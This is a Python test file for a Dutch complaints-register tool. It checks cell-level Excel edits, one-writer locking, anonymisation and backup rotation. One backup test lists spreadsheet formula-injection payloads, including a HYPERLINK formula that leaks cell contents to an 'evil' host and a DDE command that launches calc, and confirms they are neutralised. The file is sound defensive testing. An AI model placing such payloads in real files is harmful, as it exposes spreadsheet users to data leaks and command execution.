"""Hostile writes: cell-level .xlsx edits, one writer at a time, safe backups (issue 10)."""

from __future__ import annotations

import csv
import datetime as dt
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from typer.testing import CliRunner

from generator.app.cli import app
from register import locks
from register.backup import neutralise, write_backup
from register.schema import MARKER, TOOL_COLUMNS
from register.sources import Grid
from register.sources.xlsx import read_xlsx
from tests.conftest import HEADERS, ROOT, complaint

runner = CliRunner()
PEIL = "2026-11-21"
ALL_HEADERS = HEADERS + [c.header for c in TOOL_COLUMNS]
CELL = re.compile(rb"<c\b[^>]*?\br=\"([A-Z]+\d+)\"[^>]*?(?:/>|>.*?</c>)", re.S)


def col(header: str) -> int:
    return ALL_HEADERS.index(header) + 1


def expired(n: int) -> list:
    return complaint(complaint_no=f"K2024-{n:03d}", received=dt.date(2024, 1, 8), acknowledged=dt.date(2024, 1, 9),
                     decided=dt.date(2024, 1, 20), status="afgehandeld", outcome="gegrond",
                     name=f"Klant Oud {n}", email=f"oud{n}@example.nl") + [None] * len(TOOL_COLUMNS)


def open_complaint(n: int) -> list:
    return complaint(complaint_no=f"K2026-{n:03d}", received=dt.date(2026, 11, 2 + n % 10),
                     name=f"Klant Nieuw {n}") + [None] * len(TOOL_COLUMNS)


def rich_register(path: Path, rows: list[list] | None = None) -> None:
    """A register with what openpyxl used to lose or choke on: formulas with cached values,
    merged cells, a comment, a second sheet, column widths."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Register"
    ws.append(ALL_HEADERS + ["Eigen kolom", "Eigen 2"])
    for row in rows if rows is not None else [expired(1), open_complaint(1), open_complaint(2)]:
        ws.append(row + [None, None])
    last = ws.max_row + 1
    # A complaint whose number and receipt date are formulas (cached values added below).
    ws.cell(row=last, column=col("Klachtnummer"), value='="K2026-"&"900"')
    ws.cell(row=last, column=col("Datum ontvangst"), value="=DATE(2026,11,2)")
    ws.cell(row=last, column=col("Kanaal"), value="e-mail")
    ws.cell(row=last, column=col("Naam"), value="Formule Klant")
    ws.cell(row=last, column=col("Omschrijving"), value="x")
    ws.cell(row=last, column=col("Behandelaar"), value="=\"A. \"&\"Behandelaar\"")
    ws.cell(row=last, column=col("Status"), value="in behandeling")
    extra = len(ALL_HEADERS) + 1
    ws.merge_cells(start_row=2, start_column=extra, end_row=3, end_column=extra + 1)
    ws.cell(row=2, column=extra, value="samengevoegd").comment = Comment("notitie van de eigenaar", "eigenaar")
    ws.column_dimensions["A"].width = 17
    wb.create_sheet("Notities")["A1"] = "blijft staan"
    wb.save(path)
    cached = {col("Klachtnummer"): ("str", "K2026-900"), col("Datum ontvangst"): ("n", "46328"),
              col("Behandelaar"): ("str", "A. Behandelaar")}
    _add_cached_values(path, last, cached)


def _add_cached_values(path: Path, row: int, cached: dict[int, tuple[str, str]]) -> None:
    from register.sources.xlsxpackage import column_letters

    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    for c, (kind, value) in cached.items():
        ref = f"{column_letters(c)}{row}"
        pattern = re.compile(rf'<c r="{ref}"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?</c>')
        m = pattern.search(sheet)
        assert m, ref
        attrs = m.group(1).replace(' t="str"', "").replace(' t="n"', "")
        t = ' t="str"' if kind == "str" else ""
        sheet = sheet[:m.start()] + f'<c r="{ref}"{attrs}{t}><f>{m.group(2)}</f><v>{value}</v></c>' + sheet[m.end():]
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def cells(sheet: bytes) -> dict[str, bytes]:
    return {m.group(1).decode(): m.group(0) for m in CELL.finditer(sheet)}


def outside_cells(sheet: bytes) -> bytes:
    start, end = sheet.index(b"<sheetData"), sheet.index(b"</sheetData>")
    return sheet[:start] + sheet[end:]


def cli(*args: str, cfg) -> object:
    return runner.invoke(app, [*args, "--peildatum", PEIL, "--config", str(cfg.path)])


# -- write cells, not workbooks --------------------------------------------------------------------
def test_schrijf_changes_only_the_target_cells(make_config, tmp_path):
    cfg = make_config()
    path = tmp_path / "register.xlsx"
    rich_register(path)
    before = members(path)
    result = cli("controleer", "--schrijf", cfg=cfg)
    assert "Termijnen geschreven: 12 cellen bijgewerkt bij 4 klachten" in result.stdout, result.output
    after = members(path)
    assert list(after) == list(before)
    changed = {name for name in before if before[name] != after[name]}
    assert changed <= {"xl/worksheets/sheet1.xml", "xl/styles.xml"} and "xl/worksheets/sheet1.xml" in changed
    old, new = before["xl/worksheets/sheet1.xml"], after["xl/worksheets/sheet1.xml"]
    assert outside_cells(old) == outside_cells(new)  # merged cells, columns, comments' anchors
    old_cells, new_cells = cells(old), cells(new)
    tool_letters = {openpyxl.utils.get_column_letter(col(c.header)) for c in TOOL_COLUMNS}
    differing = {ref for ref in set(old_cells) | set(new_cells) if old_cells.get(ref) != new_cells.get(ref)}
    assert differing and {re.match(r"[A-Z]+", ref).group(0) for ref in differing} <= tool_letters
    # the formula cells keep formula and cached value
    grid = read_xlsx(path, "Register")
    row = next(r for r in grid.values if r[0] == "K2026-900")
    assert row[col("Behandelaar") - 1] == "A. Behandelaar"
    assert b"<f>" in b"".join(v for k, v in new_cells.items() if k.startswith("A"))
    ws = openpyxl.load_workbook(path)["Register"]
    assert ws.cell(row=2, column=col("Bevestigen vóór")).value .date() == dt.date(2024, 1, 17)
    assert ws.cell(row=2, column=col("Bevestigen vóór")).number_format == "d-m-yyyy"
    assert ws.cell(row=2, column=len(ALL_HEADERS) + 1).comment.text == "notitie van de eigenaar"
    assert [str(r) for r in ws.merged_cells.ranges] == [f"{openpyxl.utils.get_column_letter(len(ALL_HEADERS) + 1)}2:"
                                                      f"{openpyxl.utils.get_column_letter(len(ALL_HEADERS) + 2)}3"]
    # a second run finds nothing to change and leaves the file as it is
    content = path.read_bytes()
    again = cli("controleer", "--schrijf", cfg=cfg)
    assert "Termijnen geschreven: 0 cellen bijgewerkt bij 0 klachten" in again.stdout
    assert path.read_bytes() == content


def test_written_text_stays_text_and_dates_reuse_one_style(make_config, tmp_path):
    from register.sources.xlsxpackage import write_cells

    cfg = make_config(rows=[open_complaint(1)], headers=ALL_HEADERS)
    path = cfg.register_path()
    write_cells(path, "Register", {(2, 30): "=HYPERLINK(\"http://x\")", (2, 31): dt.date(2026, 1, 2),
                                   (3, 31): dt.date(2026, 1, 3), (5, 2): "nieuw\x01<&>"}, "d-m-yyyy")
    ws = openpyxl.load_workbook(path)["Register"]
    assert ws.cell(row=2, column=30).value == "=HYPERLINK(\"http://x\")" and ws.cell(row=2, column=30).data_type == "s"
    assert ws.cell(row=2, column=31).value .date() == dt.date(2026, 1, 2)
    assert ws.cell(row=2, column=31).style_id == ws.cell(row=3, column=31).style_id
    assert ws.cell(row=5, column=2).value == "nieuw_x0001_<&>"
    styles = members(path)["xl/styles.xml"]
    assert styles.count(b'formatCode="d-m-yyyy"') == 1


def test_merged_cell_in_a_tool_column_gives_a_dutch_line(make_config, tmp_path):
    cfg = make_config(rows=[open_complaint(1), open_complaint(2)], headers=ALL_HEADERS)
    path = cfg.register_path()
    wb = openpyxl.load_workbook(path)
    signal_col = openpyxl.utils.get_column_letter(col("Standpunt vóór"))
    wb["Register"].merge_cells(f"{signal_col}2:{signal_col}3")
    wb.save(path)
    content = path.read_bytes()
    result = cli("controleer", "--schrijf", cfg=cfg)
    assert result.exit_code == 2, result.output
    assert result.stderr.strip() == (f"Fout: cel {signal_col}3 ligt in de samengevoegde cellen "
                                     f"{signal_col}2:{signal_col}3; hef de samenvoeging op en probeer het opnieuw")
    assert path.read_bytes() == content


# -- backups --------------------------------------------------------------------------------------
def test_csv_backup_neutralises_formulas(tmp_path):
    hostile = ['=HYPERLINK("http://evil/?leak="&A2,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
               "\t=1+1", "\r@x", "gewone tekst", "06-12345678"]
    path = write_backup(Grid([["Kop"], *[[v] for v in hostile]], "x"), tmp_path, dt.datetime(2026, 11, 21, 6, tzinfo=dt.UTC), keep=5)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        values = [row[0] for row in csv.reader(fh, delimiter=";")]
    # cell_text trims the tab and carriage return; what they hid is neutralised all the same
    assert values == ["Kop", *["'" + v for v in hostile[:4]], "'=1+1", "'@x", "gewone tekst", "06-12345678"]
    assert [neutralise(v) for v in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]


def test_copies_before_change_rotate_with_the_backups(make_config, tmp_path):
    cfg = make_config("[nachtrun]\nbackups_bewaren = 2\n", rows=[open_complaint(1)], headers=ALL_HEADERS)
    folder = cfg.backups_dir()
    write_backup(Grid([["a"]], "x"), folder, dt.datetime(2026, 11, 20, 6, tzinfo=dt.UTC), keep=2)
    from register.writeback import apply_updates

    for day in range(1, 5):
        apply_updates(cfg, {"K2026-001": {"signal_written": f"ronde {day}"}})
    names = sorted(p.name for p in folder.iterdir())
    assert len(names) == 2 and all("-voor-wijziging-" in n for n in names), names
    ws = openpyxl.load_workbook(cfg.register_path())["Register"]
    assert ws.cell(row=2, column=col("Signaal")).value == "ronde 4"


def test_readme_and_docstring_explain_the_quote():
    import register.backup

    guide = (ROOT / "docs" / "nachtrun.md").read_text(encoding="utf-8")  # linked from the README
    assert "docs/nachtrun.md" in (ROOT / "README.md").read_text(encoding="utf-8")
    section = guide[guide.index("**Back-ups.**"):][:1500]
    assert "enkel aanhalingsteken" in section and "voor-wijziging" in section
    assert "single quote" in register.backup.__doc__


# -- one writer at a time -------------------------------------------------------------------------
def _run(args: list[str], cfg_path: Path) -> subprocess.Popen:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.Popen([sys.executable, "-m", "generator.app.cli", *args, "--peildatum", PEIL,
                             "--config", str(cfg_path)], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def _fresh(cfg) -> None:
    rows = [expired(n) for n in range(1, 6)] + [open_complaint(n) for n in range(1, 6)]
    rich_register(cfg.register_path(), rows)


def _check_round(cfg) -> None:
    grid = read_xlsx(cfg.register_path(), "Register")  # a corrupt file raises here
    openpyxl.load_workbook(cfg.register_path())
    rows = {r[0]: r for r in grid.values[1:] if r and r[0]}
    for n in range(1, 6):
        row = rows[f"K2024-{n:03d}"]
        assert row[col("Naam") - 1] == MARKER and row[col("E-mail") - 1] == MARKER, "anonimisering ongedaan"
    assert rows["K2026-001"][col("Naam") - 1] == "Klant Nieuw 1"
    assert not [p for p in cfg.register_path().parent.iterdir() if p.name.endswith(".tmp") or ".tmp." in p.name]


def test_anonymise_and_schrijf_in_parallel_never_undo_each_other(make_config):
    cfg = make_config()
    rounds = int(os.environ.get("KLACHTEN_HOSTILE_ROUNDS", "4"))
    for _ in range(rounds):
        _fresh(cfg)
        procs = [_run(["anonimiseer", "--uitvoeren"], cfg.path), _run(["controleer", "--schrijf"], cfg.path)]
        outs = [p.communicate(timeout=120) for p in procs]
        assert [p.returncode for p in procs] == [0, 0], outs
        _check_round(cfg)
        signal_cells = read_xlsx(cfg.register_path(), "Register").values
        assert any(r[col("Standpunt vóór") - 1] for r in signal_cells[1:])


def test_three_parallel_schrijf_all_succeed(make_config):
    cfg = make_config()
    _fresh(cfg)
    cli("anonimiseer", "--uitvoeren", cfg=cfg)
    for _ in range(int(os.environ.get("KLACHTEN_HOSTILE_ROUNDS", "2"))):
        procs = [_run(["controleer", "--schrijf"], cfg.path) for _ in range(3)]
        outs = [p.communicate(timeout=120) for p in procs]
        assert [p.returncode for p in procs] == [0, 0, 0], outs
        assert all(b"bestaat niet" not in err for _, err in outs)
        _check_round(cfg)


def test_second_writer_waits_then_exits_with_a_dutch_line(make_config, monkeypatch):
    cfg = make_config(rows=[expired(1), open_complaint(1)], headers=ALL_HEADERS)
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time\nfrom register.config import load_config\nfrom register.locks import "
         "register_lock\nwith register_lock(load_config(sys.argv[1])):\n    print('vast', flush=True)\n"
         "    time.sleep(60)\n", str(cfg.path)],
        env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=subprocess.PIPE)
    try:
        assert holder.stdout.readline().strip() == b"vast"
        monkeypatch.setattr(locks, "WAIT_SECONDS", 0.3)
        content = cfg.register_path().read_bytes()
        for args in (["controleer", "--schrijf"], ["anonimiseer", "--uitvoeren"], ["inrichten"]):
            result = runner.invoke(app, [*args, "--config", str(cfg.path)]
                                   + (["--peildatum", PEIL] if args[0] != "inrichten" else []))
            assert result.exit_code == 2, (args, result.output)
            assert result.stderr == ("Fout: het register is bezet door een andere klachten-opdracht; "
                                     "probeer het over een minuut opnieuw\n")
        assert cfg.register_path().read_bytes() == content
    finally:
        holder.kill()
        holder.wait()


def test_killed_writer_leaves_no_temporary_file_behind(make_config):
    cfg = make_config()
    _fresh(cfg)
    folder = cfg.register_path().parent
    (folder / "register.tmp.xlsx").write_bytes(b"half")  # what the old code left after a kill
    kills = 0
    for delay in (0.05, 0.4, 0.8, 1.2, 1.6, 2.0):
        proc = _run(["controleer", "--schrijf"], cfg.path)
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        kills += 1
        read_xlsx(cfg.register_path(), "Register")  # never damaged
    result = cli("controleer", "--schrijf", cfg=cfg)
    assert "Termijnen geschreven" in result.stdout, result.output
    leftovers = [p.name for p in folder.iterdir() if p.suffix == ".tmp" or ".tmp." in p.name]
    assert kills == 6 and leftovers == []


@pytest.mark.parametrize("command", [["controleer", "--schrijf"], ["anonimiseer", "--uitvoeren"]])
def test_lock_file_is_not_the_register(make_config, command):
    cfg = make_config()
    _fresh(cfg)
    result = runner.invoke(app, [*command, "--peildatum", PEIL, "--config", str(cfg.path)])
    assert result.exit_code == 0, result.output
    names = {p.name for p in cfg.register_path().parent.iterdir()}
    assert "register.xlsx" in names and not any(n.endswith(".tmp") for n in names)


def test_inrichten_edits_parts_and_leaves_every_row_alone(make_config, tmp_path):
    cfg = make_config()
    path = tmp_path / "register.xlsx"
    rich_register(path)
    before = members(path)
    result = runner.invoke(app, ["inrichten", "--config", str(cfg.path)])
    assert result.exit_code == 0, result.output
    assert "keuzelijst voor Kanaal" in result.stdout and "tabblad Feestdagen toegevoegd" in result.stdout
    after = members(path)
    changed = {n for n in before if before[n] != after.get(n)}
    assert changed <= {"xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                       "[Content_Types].xml"}
    assert set(after) - set(before) == {"xl/worksheets/sheet3.xml"}
    data = re.compile(rb"<sheetData>.*</sheetData>", re.S)
    assert data.search(before["xl/worksheets/sheet1.xml"]).group(0) == data.search(after["xl/worksheets/sheet1.xml"]).group(0)
    row = next(r for r in read_xlsx(path, "Register").values if r[0] == "K2026-900")
    assert row[col("Behandelaar") - 1] == "A. Behandelaar"  # cached formula value kept
    wb = openpyxl.load_workbook(path)
    ws = wb["Register"]
    assert ws.freeze_panes == "A2" and wb.sheetnames == ["Register", "Notities", "Feestdagen"]
    assert len([r for cf in ws.conditional_formatting for r in cf.rules]) == 2
    assert wb["Feestdagen"]["A2"].number_format == "d-m-yyyy" and wb["Feestdagen"]["A1"].value == "Datum"
    assert ws.cell(row=2, column=len(ALL_HEADERS) + 1).comment.text == "notitie van de eigenaar"
    content = path.read_bytes()
    again = runner.invoke(app, ["inrichten", "--config", str(cfg.path)])
    assert again.stdout.strip() == "Register was al ingericht: niets gewijzigd."
    assert path.read_bytes() == content


def test_nightly_holiday_update_rewrites_only_the_feestdagen_tab(make_config, tmp_path):
    from register.sources import open_source

    cfg = make_config()
    path = tmp_path / "register.xlsx"
    rich_register(path)
    assert runner.invoke(app, ["inrichten", "--config", str(cfg.path)]).exit_code == 0
    before = members(path)
    source = open_source(cfg)
    assert source.keep_holidays_current(dt.date(2026, 11, 21)) is None  # inrichten already reaches far enough
    message = source.keep_holidays_current(dt.date(2028, 6, 1))
    assert message.endswith("sluitingsdagen in Feestdagen gezet (tot en met 2031)")
    after = members(path)
    assert {n for n in before if before[n] != after[n]} == {"xl/worksheets/sheet3.xml"}
    days = [r[0] for r in read_xlsx(path, "Feestdagen").values[1:]]
    assert max(days) >= dt.date(2030, 6, 1)
    assert source.keep_holidays_current(dt.date(2028, 6, 1)) is None
